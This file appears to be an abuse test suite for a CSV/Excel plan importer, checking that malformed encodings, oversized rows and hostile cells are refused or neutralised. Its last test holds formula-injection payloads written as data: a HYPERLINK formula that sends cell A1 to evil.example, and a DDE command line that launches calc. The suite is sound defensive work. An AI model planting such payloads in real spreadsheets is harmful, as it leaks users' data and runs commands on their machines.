// Hostile plan files against the import's readers (Windows-1252 and UTF-16
// decoding, semicolon and tab sniffing, heading and continuation rows, Excel
// day numbers): each is refused in words or read safely, quickly, and a refused
// import leaves the store as it was.
import { expect } from 'chai';
import ExcelJS from 'exceljs';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { loadBoardPack } from '../../core/board-pack/load';
import { historyPeriod } from '../../core/board-pack/period';
import { sniffDelimiter } from '../../core/import/csv';
import { describeProblem, importPlan } from '../../core/import/import-plan';
import { MAX_JOINED_CELL } from '../../core/import/plan-rows';
import { InvalidError } from '../../core/errors';
import { packFiles } from '../../store/exports/write-pack';
import { readPlanFiles } from '../../store/files/read-sheets';
import { SqlitePlanStore } from '../../store/local/sqlite-plan-store';
import { dbState } from './corpus';

let dir: string;
before(() => (dir = fs.mkdtempSync(path.join(os.tmpdir(), 'planpulse-abuse-import-'))));
after(() => fs.rmSync(dir, { recursive: true, force: true }));

function write(name: string, bytes: string | Buffer): string {
  const file = path.join(dir, name);
  fs.writeFileSync(file, bytes);
  return file;
}

const HEADER = 'Ref,Action,Lead,Due,RAG';
const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);

describe('abuse: hostile plan files', function () {
  this.timeout(60_000);
  let store: SqlitePlanStore;
  let before: string;
  beforeEach(() => {
    store = new SqlitePlanStore(':memory:');
    before = dbState(store);
  });
  afterEach(() => store.close());

  /** Reads and imports a file; the read's refusal or the import's problems, in words. */
  async function importFile(file: string): Promise<{ ok: boolean; said: string[]; ms: number }> {
    const t = Date.now();
    try {
      const result = await importPlan(store, await readPlanFiles([file]));
      return { ok: result.ok, said: result.problems.map(describeProblem), ms: Date.now() - t };
    } catch (e) {
      expect(e, String(e)).to.be.instanceOf(InvalidError);
      return { ok: false, said: (e as InvalidError).problems, ms: Date.now() - t };
    }
  }

  it('199,990 continuation rows under one action: refused once, at the row that passes a cell, in seconds, nothing written', async () => {
    const lines = [HEADER, 'Priority 1: Early help,,,,', '1.1,First action,Jane Doe,31/03/2024,Green'];
    for (let i = 0; i < 199_990; i++) lines.push(`,more words ${i} of the action's text,,,`);
    const r = await importFile(write('continued.csv', lines.join('\r\n')));
    expect(r.ok).to.equal(false);
    expect(r.said).to.have.length(1);
    expect(r.said[0]).to.match(/action 1\.1's text runs past 32,767 characters over the rows below it \(row 3 on\)/);
    // Before the bound, the text was copied whole at each row: 20,000 rows took 5 s, 200,000 would take minutes.
    expect(r.ms).to.be.below(15_000);
    expect(dbState(store)).to.equal(before);
  });

  it('continuation rows naming more leads: the lead cell stops at a cell too', async () => {
    const lines = [HEADER, 'Priority 1: Early help,,,,', '1.1,First action,Jane Doe,31/03/2024,Green'];
    for (let i = 0; i < 5_000; i++) lines.push(`,,Person Number${i} Surname,,`);
    const r = await importFile(write('leads.csv', lines.join('\r\n')));
    expect(r.ok).to.equal(false);
    expect(r.said.filter((s) => s.includes("action 1.1's lead runs past"))).to.have.length(1);
    expect(dbState(store)).to.equal(before);
  });

  it('continuation rows within the bound still import, the text joined as it was written', async () => {
    const lines = [HEADER, 'Priority 1: Early help,,,,', '1.1,First action,Jane Doe,31/03/2024,Green', ',the rest of it,,,'];
    const r = await importFile(write('short.csv', lines.join('\r\n')));
    expect(r.said).to.deep.equal([]);
    const plan = await store.loadPlan();
    expect(plan.actions.map((a) => a.value.text)).to.deep.equal(['First action\nthe rest of it']);
    expect(MAX_JOINED_CELL).to.equal(32_767);
  });

  it('a UTF-16 file with an odd number of bytes and unpaired surrogates: read with U+FFFD, never a crash', async () => {
    const text = `${HEADER}\r\n1,Early help,,,\r\n1.1,Bad \ud800 half,Jane Doe,31/03/2024,Green\r\n1.2,Other \udfff half,Jane Doe,31/03/2024,Green\r\n`;
    const odd = Buffer.concat([utf16(text), Buffer.from([0x41])]);
    expect(odd.length % 2).to.equal(1);
    const r = await importFile(write('odd.csv', odd));
    expect(r.said).to.deep.equal([]);
    const texts = (await store.loadPlan()).actions.map((a) => a.value.text);
    expect(texts).to.deep.equal(['Bad \ufffd half', 'Other \ufffd half']);
    expect(texts.join('')).not.to.match(/[\ud800-\udfff]/);
  });

  for (const [name, bytes] of [
    ['a UTF-16 byte-order mark alone', Buffer.from([0xff, 0xfe])],
    ['a big-endian UTF-16 mark alone', Buffer.from([0xfe, 0xff])],
    ['a UTF-8 byte-order mark alone', Buffer.from([0xef, 0xbb, 0xbf])],
    ['one stray byte', Buffer.from([0xff])],
  ] as const) {
    it(`${name}: refused in words, nothing written`, async () => {
      const r = await importFile(write('bom.csv', bytes));
      expect(r.ok).to.equal(false);
      expect(r.said.join(' ')).to.match(/bom\.csv/);
      expect(dbState(store)).to.equal(before);
    });
  }

  it('a gigantic single line (40 MB, no line break): refused at its first over-long cell, nothing written', async () => {
    const r = await importFile(write('line.csv', `${HEADER}\r\n1.1,${'x'.repeat(40 * 1024 * 1024)}`));
    expect(r.ok).to.equal(false);
    expect(r.said.join(' ')).to.match(/a cell longer than 32,767 characters/);
    expect(r.ms).to.be.below(15_000);
    expect(dbState(store)).to.equal(before);
  });

  it("the separator sniff's worst case (64 KB of quotes, separators and line breaks) is quick", () => {
    const samples = [
      '"'.repeat(65_536),
      `"${'a'.repeat(65_535)}`,
      '";'.repeat(32_768),
      `${'\t;,'.repeat(21_845)}\n`.repeat(3),
      '\n'.repeat(65_536),
      '"",'.repeat(21_845),
    ];
    for (const s of samples) {
      const t = Date.now();
      sniffDelimiter(s);
      expect(Date.now() - t, `${JSON.stringify(s.slice(0, 10))}…`).to.be.below(500);
    }
  });

  it('control characters and bidi overrides in refs, text and names are taken out: what is shown is what is stored', async () => {
    const lines = [
      HEADER,
      '1,Early help,,,',
      '1.1\u202e,Reversed\u202e ref,Jane\u202e Doe,31/03/2024,Green',
      '1.\u00002,Nul\u0000 in a ref,Bob\u0007 Smith\u2066,31/03/2024,Green',
      '1.3,"Word\u000bline break",Ann Lee,31/03/2024,Green',
    ];
    const r = await importFile(write('bidi.csv', lines.join('\r\n')));
    expect(r.said).to.deep.equal([]);
    const plan = await store.loadPlan();
    expect(plan.actions.map((a) => [a.value.ref, a.value.text])).to.deep.equal([
      ['1.1', 'Reversed ref'],
      ['1.2', 'Nul in a ref'],
      ['1.3', 'Word\nline break'],
    ]);
    expect(plan.leads.map((l) => l.displayName).sort()).to.deep.equal(['Ann Lee', 'Bob Smith', 'Jane Doe']);
    expect(JSON.stringify(plan)).not.to.match(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u202a-\u202e\u2066-\u2069]|\\u00[01]/);
  });

  it('formulas and "=" text in a semicolon Windows-1252 file stay text through to the board pack (CSV and Excel)', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    const lines = [
      'Ref;Action;Lead;Due;RAG',
      '1;Early help £;;;',
      `1.1;"${formula.replace(/"/g, '""')}";@SUM(1+1);45382;Green`,
      "1.2;+cmd|' /C calc'!A0;-2+3;31/03/2024;Amber",
    ];
    const file = write('formula.csv', Buffer.from(lines.join('\r\n'), 'latin1'));
    const r = await importFile(file);
    expect(r.said).to.deep.equal([]);
    const plan = await store.loadPlan();
    expect(plan.actions.map((a) => a.value.text)).to.deep.equal([formula, "+cmd|' /C calc'!A0"]);
    // Excel's day number 45382 is 31 Mar 2024.
    expect(plan.actions[0].value.dueDate).to.equal('2024-03-31');

    const pack = await loadBoardPack(store, { today: '2024-04-01', period: historyPeriod('2024-04-01') });
    const [actionsCsv] = (await packFiles(pack, path.join(dir, 'pack.csv'))).filter((f) => f.path.endsWith('-actions.csv'));
    const csv = actionsCsv.bytes.toString('utf8');
    for (const cell of csv.split(/[,\r\n]/)) expect(cell.replace(/^"/, ''), cell).not.to.match(/^[=+\-@]/);
    expect(csv).to.include(`'=HYPERLINK`);

    const [xlsx] = await packFiles(pack, path.join(dir, 'pack.xlsx'));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.bytes as unknown as ArrayBuffer);
    const texts: string[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${ws.name}!${cell.address}`).not.to.equal(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') texts.push(cell.value);
        }),
      ),
    );
    expect(texts).to.include(formula);
  });
});
